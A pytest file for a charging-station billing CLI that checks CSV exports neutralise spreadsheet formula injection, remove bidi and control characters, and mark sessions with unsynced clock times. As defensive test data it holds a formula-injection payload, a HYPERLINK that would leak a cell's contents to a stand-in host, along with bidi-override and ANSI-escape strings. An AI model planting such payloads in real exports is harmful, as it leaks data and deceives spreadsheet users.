"""The billing CSVs as a spreadsheet would open them: no cell starts a formula, no name carries
bidi or control characters; names with them are refused at the door; sessions whose times came
from an unsynchronized clock are marked."""

from __future__ import annotations

import csv
import io
import sqlite3
from pathlib import Path

import pytest

from chargectl.commands.staff import csv_text, plain_text, table
from chargectl.sessions import ledger
from chargectl.sessions.cards import parse_name
from chargectl.sessions.errors import InvalidInput
from chargectl.sessions.records import SessionEnd, SessionStart, SessionTimes
from tests.sessions.rig import ALICE, BOB, CAROL
from tests.sessions.test_cli import cli, make_config, utc, wall

__all__ = ["utc"]  # the fixture, used by every test here

HOSTILE = {
    ALICE: '=HYPERLINK("http://x.example/?"&A1,"click")',
    BOB: "\u202eFlat 1A\u202c +1",
    CAROL: "@SUM(1+1)\x85\x1b[31m",
}


@pytest.mark.parametrize(
    ("raw", "cell"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@cmd", "'@cmd"),
        ("\t=1", "'=1"),  # the tab is a control character: removed, then the = is caught
        ("\r+1", "'+1"),
        ("Flat 1A", "Flat 1A"),
        ("Flat -1", "Flat -1"),  # only the first character matters
        ("\u202eAF 1\u202c", "AF 1"),
        ("\u2066x\u2069\u200f", "x"),
        ("a\x00b\x7fc\x9bd", "abcd"),
        ("王小明", "王小明"),
    ],
)
def test_csv_text(raw: str, cell: str) -> None:
    assert csv_text(raw) == cell


def test_plain_text_and_the_terminal_table() -> None:
    assert plain_text("\u202eevil\u202c\x1b[2J") == "evil[2J"
    out = table(["NAME"], [["\u202eab"], ["xyz"]])
    assert out.splitlines() == ["NAME", "ab", "xyz"]


@pytest.mark.parametrize("name", ["\u202eFlat", "a\u2067b", "x\x85y", "x\u200fy"])
def test_parse_name_refuses_bidi_and_c1(name: str) -> None:
    with pytest.raises(InvalidInput):
        parse_name(name)


@pytest.fixture
def hostile(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> str:
    """A ledger whose card names came in before `parse_name` refused these characters."""
    cfg = make_config(tmp_path)
    for uid in HOSTILE:
        cli(capsys, "cards", "-c", cfg, "add", uid, "--name", "placeholder")
    path = Path(cfg).parent / "shed.db"
    with sqlite3.connect(path) as raw:
        for uid, name in HOSTILE.items():
            raw.execute("UPDATE cards SET name = ? WHERE uid = ?", (name, uid))
    conn = ledger.connect(path)
    ledger.apply(
        conn,
        [
            SessionStart(1, ALICE, "pile-a/1", wall(2026, 3, 2), 0),
            SessionEnd(1, wall(2026, 3, 2, 13), "full", 1000, 1000),
            SessionStart(2, BOB, "pile-a/2", wall(2026, 3, 2), 0),
            SessionEnd(2, wall(2026, 3, 2, 14), "user_stop", 250, 250),
            SessionStart(3, CAROL, "pile-a/3", wall(2026, 3, 3), 0),
            SessionEnd(3, wall(2026, 3, 3, 14), "unplugged", 10, 10),
        ],
    )
    conn.close()
    return cfg


def _cells(out: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(out)))


def _safe(cell: str) -> bool:
    bad_start = cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    controls = any(ord(c) < 32 or 127 <= ord(c) <= 159 for c in cell)
    bidi = any(0x202A <= ord(c) <= 0x202E or 0x2066 <= ord(c) <= 0x2069 for c in cell)
    return not (bad_start or controls or bidi)


def test_sessions_export_is_safe(hostile: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = cli(
        capsys, "sessions", "-c", hostile, "export", "--from", "2026-03-01", "--to", "2026-03-31"
    )
    rows = _cells(out)
    assert code == 0 and len(rows) == 4
    assert all(_safe(c) for row in rows for c in row), rows
    names = [r[2] for r in rows[1:]]
    assert names == [
        '\'=HYPERLINK("http://x.example/?"&A1,"click")',
        "Flat 1A +1",
        "'@SUM(1+1)[31m",
    ]


def test_energy_is_safe(hostile: str, capsys: pytest.CaptureFixture[str]) -> None:
    code, out, _ = cli(capsys, "energy", "-c", hostile, "--month", "2026-03")
    rows = _cells(out)
    assert code == 0 and [r[3] for r in rows[1:]] == ["0.010", "1.000", "0.250"]  # by card UID
    assert all(_safe(c) for row in rows for c in row), rows


def test_sessions_list_table_shows_no_control_characters(
    hostile: str, capsys: pytest.CaptureFixture[str]
) -> None:
    code, out, _ = cli(capsys, "sessions", "-c", hostile, "list")
    assert code == 0
    assert "\u202e" not in out and "\x1b" not in out and "\x85" not in out


def test_unsynced_sessions_are_marked_until_their_times_are_fixed(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    cfg = make_config(tmp_path)
    cli(capsys, "cards", "-c", cfg, "add", ALICE, "--name", "Flat 1A")
    conn = ledger.connect(Path(cfg).parent / "shed.db")
    boot = wall(2024, 1, 1)  # what a box without a real-time clock believes after boot
    ledger.apply(
        conn,
        [
            SessionStart(1, ALICE, "pile-a/1", boot, 0, clock_ok=False),
            SessionEnd(1, boot + 3600, "full", 500, 500),
            SessionStart(2, ALICE, "pile-a/2", boot + 10, 0, clock_ok=False),
            SessionEnd(2, boot + 600, "user_stop", 50, 50),
        ],
    )
    code, out, err = cli(capsys, "energy", "-c", cfg, "--month", "2026-03")
    assert code == 0 and _cells(out) == [["card", "name", "sessions", "kwh"]]
    assert "2 session(s)" in err
    # The daemon worked session 1's times back from the monotonic clock once it synced.
    ledger.apply(conn, [SessionTimes(1, wall(2026, 3, 5), wall(2026, 3, 5, 13))])
    conn.close()
    code, out, err = cli(
        capsys, "sessions", "-c", cfg, "export", "--from", "2024-01-01", "--to", "2026-03-31"
    )
    rows = _cells(out)
    assert [(r[0], r[4][:10], r[8]) for r in rows[1:]] == [
        ("2", "2024-01-01", "unsynced"),
        ("1", "2026-03-05", ""),
    ]
    code, out, err = cli(capsys, "energy", "-c", cfg, "--month", "2026-03")
    assert _cells(out)[1:] == [[ALICE, "Flat 1A", "1", "0.500"]] and "1 session(s)" in err
